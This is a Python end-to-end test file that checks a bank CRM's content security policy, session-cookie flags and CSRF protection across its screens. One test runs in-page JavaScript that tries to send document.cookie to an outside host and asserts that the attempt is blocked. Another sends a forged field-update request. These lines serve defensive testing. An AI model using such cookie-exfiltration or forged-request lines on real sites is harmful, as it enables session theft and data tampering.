"""The Desk works under the content security policy, and the policy is there (SEC-18)."""

from __future__ import annotations

import re

import pytest

from bank_crm.permissions import roles
from tests.e2e.conftest import Open, Watch, go

#: Every kind of screen: workspace, lists, form, report, report builder, pages, tree, calendar, dashboard, print.
SCREENS = (
	"bank-crm",
	"bank-customer",
	"bank-customer/view/report",
	"bank-branch/view/tree",
	"bank-care-task/view/calendar/default",
	"bank-segment/new",
	"bank-my-day",
	"bank-screen-pop",
	"query-report/Bank Customer Completeness",
	"dashboard-view/Customer Analysis",
	"bank-crm-settings",
)


@pytest.fixture
def violations() -> list[str]:
	return []


def test_SEC_18_no_screen_breaks_the_policy(open_as: Open, violations: list[str]) -> None:
	page = open_as(roles.ADMINISTRATOR, "/desk/bank-crm")
	page.context.on(
		"console",
		lambda message: "Content Security Policy" in message.text and violations.append(message.text),
	)
	page.add_init_script(
		"""addEventListener("securitypolicyviolation", (event) =>
			console.error(`Content Security Policy: ${event.violatedDirective} ${event.blockedURI}`))"""
	)
	root = re.match(r"(.+/(?:desk|app))/", page.url).group(1)
	for screen in SCREENS:
		go(page, f"{root}/{screen}")
	first = page.evaluate("frappe.db.get_list('Bank Customer', {limit: 1}).then((rows) => rows[0].name)")
	go(page, f"{root}/bank-customer/{first}")
	policy = page.evaluate(
		"fetch(location.href).then((answer) => answer.headers.get('content-security-policy'))"
	)
	assert "object-src 'none'" in policy and "frame-ancestors 'self'" in policy
	assert violations == []


def test_SEC_18_other_hosts_are_out_of_reach(open_as: Open, watch: Watch) -> None:
	watch.expect("Content Security Policy|Refused to|violates|Failed to fetch|Failed to load resource")
	page = open_as(roles.TELLER, "/desk/bank-crm")
	reached = page.evaluate(
		"""async () => {
			const tries = {
				fetch: () => fetch("http://127.0.0.2:9/?" + document.cookie),
				image: () => new Promise((done, fail) => {
					const image = new Image();
					image.onload = done;
					image.onerror = () => fail(new Error("blocked"));
					image.src = "http://127.0.0.2:9/x.png";
				}),
			};
			const blocked = [];
			addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
			for (const attempt of Object.values(tries)) await attempt().catch(() => {});
			await new Promise((done) => setTimeout(done));
			return blocked;
		}"""
	)
	assert reached == ["connect-src", "img-src"]


def test_SEC_18_the_session_is_out_of_scripts_reach(open_as: Open) -> None:
	page = open_as(roles.TELLER, "/desk/bank-crm")
	assert "sid=" not in page.evaluate("document.cookie")
	cookie = next(one for one in page.context.cookies() if one["name"] == "sid")
	assert cookie["httpOnly"] and cookie["sameSite"] in ("Lax", "Strict")


def test_SEC_18_a_request_from_another_site_changes_nothing(open_as: Open, watch: Watch) -> None:
	"""The browser would send the cookies along; the token it cannot know."""
	watch.expect("HTTP 400|status of 400")
	page = open_as(roles.RELATIONSHIP_MANAGER, "/desk/bank-crm")
	name = page.evaluate("frappe.db.get_list('Bank Customer', {limit: 1}).then((rows) => rows[0].name)")
	status, text = page.evaluate(
		"""(name) => fetch("/api/method/frappe.client.set_value", {
			method: "POST",
			body: new URLSearchParams({doctype: "Bank Customer", name, fieldname: "occupation", value: "Forged"}),
		}).then(async (answer) => [answer.status, await answer.text()])""",
		name,
	)
	assert status == 400 and "CSRF" in text
	stored = page.evaluate("(n) => frappe.db.get_value('Bank Customer', n, 'occupation')", name)
	assert stored["message"]["occupation"] != "Forged"
